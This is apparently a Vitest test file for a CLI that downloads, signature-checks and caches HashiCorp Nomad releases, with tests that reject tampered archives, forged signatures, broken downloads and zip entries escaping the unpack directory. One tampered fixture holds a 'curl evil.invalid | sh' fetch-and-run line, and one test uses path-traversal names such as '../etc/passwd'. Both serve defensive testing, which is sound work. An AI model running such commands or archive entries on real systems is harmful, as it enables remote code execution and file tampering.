import { describe, it, expect, beforeAll, afterAll, beforeEach, afterEach } from "vitest";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import * as openpgp from "openpgp";
import { strToU8, zipSync } from "fflate";
import {
  cachedRelease,
  fetchRelease,
  importRelease,
  listCachedReleases,
  missingReleaseError,
  releaseBaseUrl,
  releaseEntries,
  verifySums,
  type ReleaseIndex,
} from "../../cli/artifacts/official.js";
import { parseSha256Sums, releaseFiles, type ReleaseRef } from "../../cli/artifacts/releases.js";
import { HASHICORP_KEY_FINGERPRINT, HASHICORP_PUBLIC_KEY } from "../../cli/artifacts/hashicorp-key.js";
import { blobPath, verifiedBlob } from "../../cli/artifacts/cache.js";
import { ResinError } from "../../cli/util/errors.js";
import { sha256 } from "../../cli/util/hash.js";
import { silentLog } from "../../cli/util/log.js";

// The official-release channel against a loopback HTTP server laid out like
// releases.hashicorp.com. Releases are made here: a zip holding a shell script that
// stands in for the binary (a fixture, never a real HashiCorp build), its SHA256SUMS,
// and a detached signature by a key generated for the test run. Every failure case
// checks two things: the error says what failed for which file, and a good copy of the
// same release cached before the failure is still there and still verifies.
// One test verifies a signature HashiCorp really made (test/fixtures/releases) against
// the embedded key.

const REF: ReleaseRef = { product: "nomad", version: "1.9.3" };
const FILES = releaseFiles(REF);
const DIR = `/${REF.product}/${REF.version}/`;
const FIXTURES = fileURLToPath(new URL("../fixtures/releases/", import.meta.url));
const FIXTURE_BINARY = "#!/bin/sh\n# Resin test fixture standing in for the nomad binary; it is not Nomad.\necho 'fixture nomad 1.9.3'\n";

interface TestKey {
  privateKey: openpgp.PrivateKey;
  publicArmored: string;
  fingerprint: string;
}

interface Release {
  zip: Buffer;
  sums: Buffer;
  sig: Buffer;
}

async function makeKey(name: string): Promise<TestKey> {
  const { privateKey, publicKey } = await openpgp.generateKey({
    type: "curve25519",
    userIDs: [{ name, email: "release-test@resin.invalid" }],
    format: "object",
  });
  return { privateKey, publicArmored: publicKey.armor(), fingerprint: publicKey.getFingerprint() };
}

async function sign(data: Buffer, key: TestKey): Promise<Buffer> {
  const message = await openpgp.createMessage({ binary: new Uint8Array(data) });
  const sig = await openpgp.sign({ message, signingKeys: key.privateKey, detached: true, format: "binary" });
  return Buffer.from(sig);
}

function zipOf(files: Record<string, string>): Buffer {
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(files).map(([n, t]) => [n, strToU8(t)]))));
}

function sumsOf(entries: Record<string, Buffer>): Buffer {
  const lines = Object.entries(entries).map(([name, data]) => `${sha256(data)}  ${name}\n`);
  return Buffer.from(lines.join(""));
}

/** A release as HashiCorp would publish it, signed by `key`. */
async function makeRelease(key: TestKey, files: Record<string, string> = { nomad: FIXTURE_BINARY }): Promise<Release> {
  const zip = zipOf(files);
  // Real sums list every platform; the darwin line must not be the one checked.
  const sums = sumsOf({ [`nomad_${REF.version}_darwin_arm64.zip`]: Buffer.from("other platform"), [FILES.zip]: zip });
  return { zip, sums, sig: await sign(sums, key) };
}

// ---------------------------------------------------------------------------------
// Loopback server

type Route = { body: Buffer; fault?: "truncate" | "reset" } | { status: number };
const routes = new Map<string, Route>();
const requests: string[] = [];
let server: Server;
let baseUrl: string;

function serve(release: Release): void {
  routes.set(DIR + FILES.zip, { body: release.zip });
  routes.set(DIR + FILES.sums, { body: release.sums });
  routes.set(DIR + FILES.sig, { body: release.sig });
}

let testKey: TestKey;
let otherKey: TestKey;
let good: Release;
/** The test key as a file, for RESIN_RELEASE_KEY_FILE: what the cache trusts on each read. */
let testKeyFile: string;
let keyDir: string;

beforeAll(async () => {
  [testKey, otherKey] = await Promise.all([makeKey("Resin test release key"), makeKey("Some other key")]);
  good = await makeRelease(testKey);
  keyDir = mkdtempSync(join(tmpdir(), "resin-release-keys-"));
  testKeyFile = join(keyDir, "test-key.asc");
  writeFileSync(testKeyFile, testKey.publicArmored);
  server = createServer((req, res) => {
    requests.push(req.url ?? "");
    const route = routes.get(req.url ?? "");
    if (!route) return void res.writeHead(404).end("not found\n");
    if ("status" in route) return void res.writeHead(route.status).end("server error\n");
    res.writeHead(200, { "content-length": route.body.length });
    if (route.fault === "truncate") {
      // Promise the whole body, send half, then drop the connection.
      res.write(route.body.subarray(0, route.body.length >> 1), () => res.socket?.destroy());
    } else if (route.fault === "reset") {
      res.flushHeaders();
      setTimeout(() => res.socket?.destroy(), 10);
    } else {
      res.end(route.body);
    }
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  rmSync(keyDir, { recursive: true, force: true });
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

const savedEnv = { ...process.env };
let cache: string;

beforeEach(() => {
  cache = mkdtempSync(join(tmpdir(), "resin-releases-"));
  process.env.RESIN_CACHE_HOME = cache;
  // Each read of the cache verifies the sums again against the keys trusted now: the test key.
  process.env.RESIN_RELEASE_KEY_FILE = testKeyFile;
  delete process.env.RESIN_RELEASES_URL;
  routes.clear();
  requests.length = 0;
});

afterEach(() => {
  rmSync(cache, { recursive: true, force: true });
  process.env = { ...savedEnv };
});

function fetchOpts(extra: { force?: boolean } = {}) {
  return { log: silentLog, baseUrl, trustedKeys: testKey.publicArmored, ...extra };
}

/** Cache the good release, then forget the requests that took. */
async function cacheGood(): Promise<ReleaseIndex> {
  serve(good);
  const entry = await fetchRelease(REF, fetchOpts());
  routes.clear();
  requests.length = 0;
  return entry;
}

/** The earlier good copy is untouched, and the failed attempt left no temp files. */
async function expectIntact(entry: ReleaseIndex): Promise<void> {
  expect(await cachedRelease(REF)).toEqual(entry);
  await expect(verifiedBlob(entry.sha256, "test release")).resolves.toBe(blobPath(entry.sha256));
  expect(readFileSync(blobPath(entry.sha256)).equals(good.zip)).toBe(true);
  expect(readdirSync(cache).filter((n) => n.startsWith("release-"))).toEqual([]);
  expect(readdirSync(join(cache, "blobs", "sha256")).sort()).toEqual([entry.sha256, entry.sumsSha256, entry.sigSha256].sort());
}

/** Run a forced re-fetch that must fail, and return its error. */
async function failedFetch(): Promise<ResinError> {
  const error = await fetchRelease(REF, fetchOpts({ force: true })).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ResinError);
  const e = error as ResinError;
  // Every message names the release.
  expect(e.message).toMatch(/^nomad 1\.9\.3: /);
  return e;
}

// ---------------------------------------------------------------------------------

describe("fetchRelease", () => {
  it("downloads, verifies and caches a good release: blob plus index", async () => {
    serve(good);
    const entry = await fetchRelease(REF, fetchOpts());
    expect(entry).toEqual({
      product: "nomad",
      version: "1.9.3",
      file: "nomad_1.9.3_linux_amd64.zip",
      sha256: sha256(good.zip),
      sumsSha256: sha256(good.sums),
      sigSha256: sha256(good.sig),
      signer: testKey.fingerprint,
    });
    expect(readFileSync(blobPath(entry.sha256)).equals(good.zip)).toBe(true);
    const index = JSON.parse(readFileSync(join(cache, "releases", "nomad", "1.9.3", "linux_amd64.json"), "utf8"));
    expect(index).toEqual(entry);
    expect(requests.sort()).toEqual([DIR + FILES.sums, DIR + FILES.sig, DIR + FILES.zip].sort());
    expect(await listCachedReleases()).toEqual([entry]);
    const entries = await releaseEntries(REF);
    expect([...entries.keys()]).toEqual(["nomad"]);
    expect(entries.get("nomad")?.toString()).toBe(FIXTURE_BINARY);
  });

  it("falls back to the key-named signature (SHA256SUMS.72D7468F.sig) when the server has no .sig", async () => {
    serve(good);
    routes.delete(DIR + FILES.sig);
    routes.set(DIR + FILES.keySig, { body: good.sig });
    const entry = await fetchRelease(REF, fetchOpts());
    expect(entry.signer).toBe(testKey.fingerprint);
    expect(FILES.keySig).toBe("nomad_1.9.3_SHA256SUMS.72D7468F.sig");
    expect(requests.sort()).toEqual([DIR + FILES.sums, DIR + FILES.sig, DIR + FILES.keySig, DIR + FILES.zip].sort());
  });

  it("does not fall back when the .sig is there but bad: a forged .sig is refused", async () => {
    serve(good);
    routes.set(DIR + FILES.sig, { body: await sign(good.sums, otherKey) });
    routes.set(DIR + FILES.keySig, { body: good.sig });
    const e = await failedFetch();
    expect(e.message).toContain("nomad_1.9.3_SHA256SUMS.sig: signature was made by key");
    expect(requests).not.toContain(DIR + FILES.keySig);
  });

  it("does no HTTP request at all when the release is cached and its blob verifies", async () => {
    const entry = await cacheGood();
    serve(good);
    expect(await fetchRelease(REF, fetchOpts())).toEqual(entry);
    expect(requests).toEqual([]);
  });

  it("fetches again when the index survives but the blob is gone", async () => {
    const entry = await cacheGood();
    rmSync(blobPath(entry.sha256));
    serve(good);
    expect(await fetchRelease(REF, fetchOpts())).toEqual(entry);
    expect(requests).toHaveLength(3);
    await expectIntact(entry);
  });

  it("reads the base URL from RESIN_RELEASES_URL", async () => {
    process.env.RESIN_RELEASES_URL = `${baseUrl}/`;
    expect(releaseBaseUrl()).toBe(`${baseUrl}/`);
    serve(good);
    const entry = await fetchRelease(REF, { log: silentLog, trustedKeys: testKey.publicArmored });
    expect(entry.sha256).toBe(sha256(good.zip));
  });

  it("refuses a tampered archive (sha256 mismatch)", async () => {
    const entry = await cacheGood();
    serve(good);
    const tampered = zipOf({ nomad: `${FIXTURE_BINARY}curl evil.invalid | sh\n` });
    routes.set(DIR + FILES.zip, { body: tampered });
    const e = await failedFetch();
    expect(e.message).toContain(`nomad_1.9.3_linux_amd64.zip: sha256 is ${sha256(tampered)}, but nomad_1.9.3_SHA256SUMS says ${sha256(good.zip)}`);
    await expectIntact(entry);
  });

  it("leaves nothing in the cache when a first fetch fails", async () => {
    serve(good);
    routes.set(DIR + FILES.zip, { body: zipOf({ nomad: "tampered" }) });
    await expect(fetchRelease(REF, fetchOpts())).rejects.toThrow(/sha256 is .* but nomad_1.9.3_SHA256SUMS says/);
    expect(await cachedRelease(REF)).toBeUndefined();
    expect(readdirSync(cache)).toEqual([]);
  });

  it("refuses tampered sums (the signature no longer matches)", async () => {
    const entry = await cacheGood();
    const tampered = zipOf({ nomad: "tampered" });
    serve({ ...good, zip: tampered, sums: sumsOf({ [FILES.zip]: tampered }) });
    const e = await failedFetch();
    expect(e.message).toMatch(/nomad_1\.9\.3_SHA256SUMS\.sig: signature does not verify against the given trusted key/);
    expect(e.hint).toMatch(/corrupt or forged/);
    // The archive is not even downloaded once the sums fail.
    expect(requests).not.toContain(DIR + FILES.zip);
    await expectIntact(entry);
  });

  it("refuses sums signed by another key", async () => {
    const entry = await cacheGood();
    serve({ ...good, sig: await sign(good.sums, otherKey) });
    const e = await failedFetch();
    const otherId = otherKey.fingerprint.slice(-16).toUpperCase();
    expect(e.message).toContain(`nomad_1.9.3_SHA256SUMS.sig: signature was made by key ${otherId}, which is not the given trusted key`);
    await expectIntact(entry);
  });

  it("refuses sums that do not list the linux_amd64 archive", async () => {
    const entry = await cacheGood();
    const sums = sumsOf({ "nomad_1.9.3_darwin_arm64.zip": good.zip });
    serve({ ...good, sums, sig: await sign(sums, testKey) });
    const e = await failedFetch();
    expect(e.message).toBe("nomad 1.9.3: nomad_1.9.3_linux_amd64.zip: not listed in nomad_1.9.3_SHA256SUMS");
    await expectIntact(entry);
  });

  it("refuses a truncated download (connection dropped before Content-Length bytes)", async () => {
    const entry = await cacheGood();
    serve(good);
    routes.set(DIR + FILES.zip, { body: good.zip, fault: "truncate" });
    const e = await failedFetch();
    expect(e.message).toMatch(/^nomad 1\.9\.3: nomad_1\.9\.3_linux_amd64\.zip: download from http:\/\/127\.0\.0\.1:\d+\/nomad\/1\.9\.3\/nomad_1\.9\.3_linux_amd64\.zip failed: /);
    expect(e.hint).toMatch(/resin artifacts import/);
    await expectIntact(entry);
  });

  it("refuses a connection reset right after the headers", async () => {
    const entry = await cacheGood();
    serve(good);
    routes.set(DIR + FILES.zip, { body: good.zip, fault: "reset" });
    const e = await failedFetch();
    expect(e.message).toMatch(/nomad_1\.9\.3_linux_amd64\.zip: download from .* failed: /);
    await expectIntact(entry);
  });

  it("refuses a server error for the archive", async () => {
    const entry = await cacheGood();
    serve(good);
    routes.set(DIR + FILES.zip, { status: 500 });
    const e = await failedFetch();
    expect(e.message).toMatch(/nomad_1\.9\.3_linux_amd64\.zip: download from .* failed: HTTP status 500$/);
    await expectIntact(entry);
  });

  it("refuses a truncated SHA256SUMS", async () => {
    const entry = await cacheGood();
    serve(good);
    routes.set(DIR + FILES.sums, { body: good.sums, fault: "truncate" });
    const e = await failedFetch();
    expect(e.message).toMatch(/nomad_1\.9\.3_SHA256SUMS: download from .* failed: /);
    await expectIntact(entry);
  });

  it("reports a release the server does not have (404)", async () => {
    const entry = await cacheGood();
    const e = await failedFetch();
    expect(e.message).toMatch(/nomad_1\.9\.3_SHA256SUMS: download from .*\/nomad\/1\.9\.3\/nomad_1\.9\.3_SHA256SUMS failed: HTTP status 404$/);
    await expectIntact(entry);
  });
});

describe("fetchRelease for arm64 (the loopback double of the release site)", () => {
  const ARM: ReleaseRef = { ...REF, arch: "arm64" };
  const ARM_FILES = releaseFiles(ARM);
  const ARM_BINARY = "#!/bin/sh\n# Resin test fixture standing in for the arm64 nomad binary; it is not Nomad.\n";

  /** One release as HashiCorp publishes it: both Linux archives under one signed SHA256SUMS. */
  async function bothPlatforms(listArm = true): Promise<{ amd: Buffer; arm: Buffer }> {
    const amd = zipOf({ nomad: FIXTURE_BINARY });
    const arm = zipOf({ nomad: ARM_BINARY });
    const sums = sumsOf({ [FILES.zip]: amd, ...(listArm ? { [ARM_FILES.zip]: arm } : {}) });
    routes.set(DIR + FILES.zip, { body: amd });
    routes.set(DIR + ARM_FILES.zip, { body: arm });
    routes.set(DIR + FILES.sums, { body: sums });
    routes.set(DIR + FILES.sig, { body: await sign(sums, testKey) });
    return { amd, arm };
  }

  it("downloads the linux_arm64 archive, checks it against the same signed sums, and caches it beside the amd64 one", async () => {
    const { amd, arm } = await bothPlatforms();
    const entry = await fetchRelease(ARM, fetchOpts());
    expect(entry).toMatchObject({ product: "nomad", version: "1.9.3", file: "nomad_1.9.3_linux_arm64.zip", sha256: sha256(arm) });
    expect(requests).toContain(DIR + "nomad_1.9.3_linux_arm64.zip");
    expect(requests).not.toContain(DIR + FILES.zip);
    expect(JSON.parse(readFileSync(join(cache, "releases", "nomad", "1.9.3", "linux_arm64.json"), "utf8"))).toEqual(entry);
    // The amd64 release is another cache entry: not there until fetched.
    expect(await cachedRelease(REF)).toBeUndefined();
    expect((await releaseEntries(ARM)).get("nomad")?.toString()).toBe(ARM_BINARY);
    const amdEntry = await fetchRelease(REF, fetchOpts());
    expect(amdEntry.sha256).toBe(sha256(amd));
    expect(await listCachedReleases()).toEqual([amdEntry, entry]);
    expect((await releaseEntries(REF)).get("nomad")?.toString()).toBe(FIXTURE_BINARY);
  });

  it("refuses sums that list no linux_arm64 archive, naming the platform", async () => {
    await bothPlatforms(false);
    await expect(fetchRelease(ARM, fetchOpts())).rejects.toThrow(/nomad_1\.9\.3_linux_arm64\.zip: not listed in nomad_1\.9\.3_SHA256SUMS/);
    await expect(fetchRelease(ARM, fetchOpts())).rejects.toMatchObject({ hint: expect.stringContaining("linux_arm64") });
    expect(existsSync(join(cache, "releases", "nomad", "1.9.3", "linux_arm64.json"))).toBe(false);
  });

  it("a missing arm64 release is fetched with --arch arm64, and imported under its linux_arm64 name", () => {
    const e = missingReleaseError([ARM, { product: "consul", version: "1.20.1" }]);
    expect(e.message).toBe("official releases not in the cache: nomad 1.9.3 (nomad_1.9.3_linux_arm64.zip), consul 1.20.1 (consul_1.20.1_linux_amd64.zip)");
    expect(e.hint).toContain("resin artifacts fetch --arch arm64 nomad@1.9.3\n");
    expect(e.hint).toContain("resin artifacts fetch consul@1.20.1\n");
    expect(e.hint).toContain("resin artifacts import <dir>/nomad_1.9.3_linux_arm64.zip");
  });
});

describe("the cached index, verified again on every read", () => {
  it("keeps the sums and signature beside the archive, as blobs", async () => {
    const entry = await cacheGood();
    expect(readFileSync(blobPath(entry.sumsSha256)).equals(good.sums)).toBe(true);
    expect(readFileSync(blobPath(entry.sigSha256)).equals(good.sig)).toBe(true);
  });

  it("trusts a release cached under RESIN_RELEASE_KEY_FILE only while that key is trusted", async () => {
    serve(good);
    const entry = await fetchRelease(REF, { log: silentLog, baseUrl });
    routes.clear();
    expect(await cachedRelease(REF)).toEqual(entry);
    // The key unset: HashiCorp's key is trusted now, and it signed none of this.
    delete process.env.RESIN_RELEASE_KEY_FILE;
    expect(await cachedRelease(REF)).toBeUndefined();
    expect(await listCachedReleases()).toEqual([]);
    await expect(releaseEntries(REF)).rejects.toThrow(/not in the cache: nomad 1\.9\.3/);
    // A fetch does not take the cached copy: it fetches again and verifies against HashiCorp's key.
    serve(good);
    await expect(fetchRelease(REF, { log: silentLog, baseUrl })).rejects.toThrow(/which is not HashiCorp's release key/);
    // Another key named: not trusted either.
    const other = join(keyDir, "other-key.asc");
    writeFileSync(other, otherKey.publicArmored);
    process.env.RESIN_RELEASE_KEY_FILE = other;
    expect(await cachedRelease(REF)).toBeUndefined();
    // The right key again: the same cache is trusted again, untouched.
    process.env.RESIN_RELEASE_KEY_FILE = testKeyFile;
    expect(await cachedRelease(REF)).toEqual(entry);
  });

  it("counts an index whose archive the signed sums do not list, or one without its sums, as absent", async () => {
    const entry = await cacheGood();
    const indexFile = join(cache, "releases", "nomad", "1.9.3", "linux_amd64.json");
    const other = zipOf({ nomad: "another binary" });
    writeFileSync(join(cache, "other.zip"), other);
    mkdirSync(join(cache, "blobs", "sha256"), { recursive: true });
    writeFileSync(blobPath(sha256(other)), other);
    writeFileSync(indexFile, JSON.stringify({ ...entry, sha256: sha256(other) }));
    expect(await cachedRelease(REF)).toBeUndefined();
    const { sigSha256: _, ...before } = entry;
    writeFileSync(indexFile, JSON.stringify(before));
    expect(await cachedRelease(REF)).toBeUndefined();
    writeFileSync(indexFile, JSON.stringify(entry));
    expect(await cachedRelease(REF)).toEqual(entry);
  });
});

describe("importRelease", () => {
  function releaseDir(release: Release): string {
    const dir = join(cache, "incoming");
    rmSync(dir, { recursive: true, force: true });
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, FILES.zip), release.zip);
    writeFileSync(join(dir, FILES.sums), release.sums);
    writeFileSync(join(dir, FILES.sig), release.sig);
    return dir;
  }

  it("verifies and caches a release copied in by hand, exactly as a fetch would", async () => {
    const dir = releaseDir(good);
    const entry = await importRelease(join(dir, FILES.zip), { log: silentLog, trustedKeys: testKey.publicArmored });
    expect(entry).toEqual({
      product: "nomad",
      version: "1.9.3",
      file: FILES.zip,
      sha256: sha256(good.zip),
      sumsSha256: sha256(good.sums),
      sigSha256: sha256(good.sig),
      signer: testKey.fingerprint,
    });
    expect(await cachedRelease(REF)).toEqual(entry);
    expect(existsSync(join(dir, FILES.zip))).toBe(true); // the source is copied, not moved
    // Now cached, so a fetch needs no network.
    expect(await fetchRelease(REF, fetchOpts())).toEqual(entry);
    expect(requests).toEqual([]);
  });

  it("takes the sums and signature from explicit paths", async () => {
    const dir = releaseDir(good);
    writeFileSync(join(cache, "sums.txt"), good.sums);
    writeFileSync(join(cache, "sums.sig"), good.sig);
    rmSync(join(dir, FILES.sums));
    rmSync(join(dir, FILES.sig));
    const entry = await importRelease(join(dir, FILES.zip), {
      log: silentLog,
      trustedKeys: testKey.publicArmored,
      sums: join(cache, "sums.txt"),
      sig: join(cache, "sums.sig"),
    });
    expect(entry.sha256).toBe(sha256(good.zip));
  });

  it("refuses a tampered archive and keeps the cached good copy", async () => {
    const entry = await cacheGood();
    const dir = releaseDir({ ...good, zip: zipOf({ nomad: "tampered" }) });
    await expect(importRelease(join(dir, FILES.zip), { log: silentLog, trustedKeys: testKey.publicArmored })).rejects.toThrow(
      /^nomad 1\.9\.3: nomad_1\.9\.3_linux_amd64\.zip: sha256 is [0-9a-f]{64}, but nomad_1\.9\.3_SHA256SUMS says/,
    );
    await expectIntact(entry);
  });

  it("takes the key-named signature beside the sums when there is no .sig", async () => {
    const dir = releaseDir(good);
    rmSync(join(dir, FILES.sig));
    writeFileSync(join(dir, FILES.keySig), good.sig);
    const entry = await importRelease(join(dir, FILES.zip), { log: silentLog, trustedKeys: testKey.publicArmored });
    expect(entry.signer).toBe(testKey.fingerprint);
  });

  it("says which file is missing beside the zip", async () => {
    const dir = releaseDir(good);
    rmSync(join(dir, FILES.sig));
    await expect(importRelease(join(dir, FILES.zip), { log: silentLog, trustedKeys: testKey.publicArmored })).rejects.toThrow(
      /nomad_1\.9\.3_SHA256SUMS\.sig: cannot read .*nomad_1\.9\.3_SHA256SUMS\.sig: ENOENT/,
    );
    expect(await cachedRelease(REF)).toBeUndefined();
  });

  it("refuses a file whose name is not a release archive's", async () => {
    await expect(importRelease(join(cache, "nomad.zip"), { log: silentLog })).rejects.toThrow(/not an official release archive name/);
  });
});

describe("releaseEntries", () => {
  it("refuses an archive entry that would escape the unpack directory", async () => {
    for (const evil of ["../etc/passwd", "/etc/passwd", "bin/../../x"]) {
      const release = await makeRelease(testKey, { nomad: FIXTURE_BINARY, [evil]: "x" });
      serve(release);
      await fetchRelease(REF, fetchOpts({ force: true }));
      await expect(releaseEntries(REF)).rejects.toThrow(/has an absolute path or "\.\.", refusing to unpack it/);
    }
  });

  it("lists what to run for every missing release", async () => {
    await expect(releaseEntries(REF)).rejects.toThrow(/not in the cache: nomad 1\.9\.3/);
    const e = missingReleaseError([REF, { product: "consul", version: "1.20.1" }]);
    expect(e.message).toBe("official releases not in the cache: nomad 1.9.3 (nomad_1.9.3_linux_amd64.zip), consul 1.20.1 (consul_1.20.1_linux_amd64.zip)");
    expect(e.hint).toContain("resin artifacts fetch nomad@1.9.3 consul@1.20.1");
    expect(e.hint).toContain("resin artifacts import <dir>/nomad_1.9.3_linux_amd64.zip");
    expect(e.hint).toContain("resin artifacts import <dir>/consul_1.20.1_linux_amd64.zip");
    expect(e.hint).toContain("consul_1.20.1_SHA256SUMS.sig");
  });
});

describe("verifySums and the HashiCorp key", () => {
  it("embeds HashiCorp's release key with the published fingerprint, valid today", async () => {
    const key = await openpgp.readKey({ armoredKey: HASHICORP_PUBLIC_KEY });
    expect(HASHICORP_KEY_FINGERPRINT).toBe("C874011F0AB405110D02105534365D9472D7468F".toLowerCase());
    expect(key.getFingerprint()).toBe(HASHICORP_KEY_FINGERPRINT);
    const today = new Date("2026-11-26T12:00:00Z");
    await expect(key.verifyPrimaryKey(today)).resolves.toBeUndefined();
    const signing = await key.getSigningKey(undefined, today);
    expect(signing.getFingerprint()).toBe("374ec75b485913604a831cc7c820c6d5cd27ab87");
  });

  it("verifies a signature HashiCorp really made (terraform-provider-aws 5.2.0, signed 2023-06-09)", async () => {
    delete process.env.RESIN_RELEASE_KEY_FILE;
    const sums = readFileSync(join(FIXTURES, "terraform-provider-aws_5.2.0_SHA256SUMS"));
    const sig = readFileSync(join(FIXTURES, "terraform-provider-aws_5.2.0_SHA256SUMS.sig"));
    await expect(verifySums(sums, sig)).resolves.toEqual({ signer: HASHICORP_KEY_FINGERPRINT });
    expect(parseSha256Sums(sums.toString()).get("terraform-provider-aws_5.2.0_linux_amd64.zip")).toBe(
      "dae64f3047f18fabe7c5e9d6bccfb7f4b4793994cea0947dc1ac17e1922bf715",
    );
    const forged = Buffer.from(sums.toString().replace("dae64f30", "dae64f31"));
    await expect(verifySums(forged, sig)).rejects.toThrow(/does not verify against HashiCorp's release key/);
  });

  it("by default trusts only HashiCorp's key", async () => {
    delete process.env.RESIN_RELEASE_KEY_FILE;
    await expect(verifySums(good.sums, good.sig)).rejects.toThrow(
      new RegExp(`signature was made by key ${testKey.fingerprint.slice(-16).toUpperCase()}, which is not HashiCorp's release key \\(C874 011F 0AB4 0511 0D02 1055 3436 5D94 72D7 468F\\)`),
    );
  });

  it("trusts the key in RESIN_RELEASE_KEY_FILE instead, for mirrors and tests", async () => {
    const file = join(cache, "mirror-key.asc");
    writeFileSync(file, testKey.publicArmored);
    process.env.RESIN_RELEASE_KEY_FILE = file;
    await expect(verifySums(good.sums, good.sig)).resolves.toEqual({ signer: testKey.fingerprint });
    await expect(verifySums(good.sums, await sign(good.sums, otherKey))).rejects.toThrow(/not the key in RESIN_RELEASE_KEY_FILE/);
  });

  it("explains a key export that only has self-signatures newer than the signature", async () => {
    // A key made in 2021 signs in 2024, then is renewed in 2026; an export with only the
    // renewal cannot show openpgp.js that the key was valid in 2024.
    const { privateKey } = await openpgp.generateKey({
      type: "curve25519",
      userIDs: [{ name: "Renewed test key" }],
      date: new Date("2021-04-19T00:00:00Z"),
      keyExpirationTime: 5 * 365 * 86400,
      format: "object",
    });
    const message = await openpgp.createMessage({ binary: new Uint8Array(good.sums) });
    const sig = Buffer.from(await openpgp.sign({ message, signingKeys: privateKey, detached: true, format: "binary", date: new Date("2024-11-12T00:00:00Z") }));
    const { publicKey: renewedOnly } = await openpgp.reformatKey({
      privateKey,
      userIDs: [{ name: "Renewed test key" }],
      date: new Date("2026-02-18T00:00:00Z"),
      format: "armored",
    });
    await expect(verifySums(good.sums, sig, renewedOnly)).rejects.toThrow(/use an export of the key that keeps its older self-signatures/);
    await expect(verifySums(good.sums, sig, privateKey.toPublic().armor())).resolves.toEqual({ signer: privateKey.getFingerprint() });
  });

  it("accepts an armored signature too", async () => {
    const message = await openpgp.createMessage({ binary: new Uint8Array(good.sums) });
    const armored = await openpgp.sign({ message, signingKeys: testKey.privateKey, detached: true });
    await expect(verifySums(good.sums, Buffer.from(armored), testKey.publicArmored)).resolves.toEqual({ signer: testKey.fingerprint });
  });

  it("rejects garbage that is not a signature", async () => {
    await expect(verifySums(good.sums, Buffer.from("not a signature"), testKey.publicArmored)).rejects.toThrow(/not an OpenPGP signature/);
  });
});
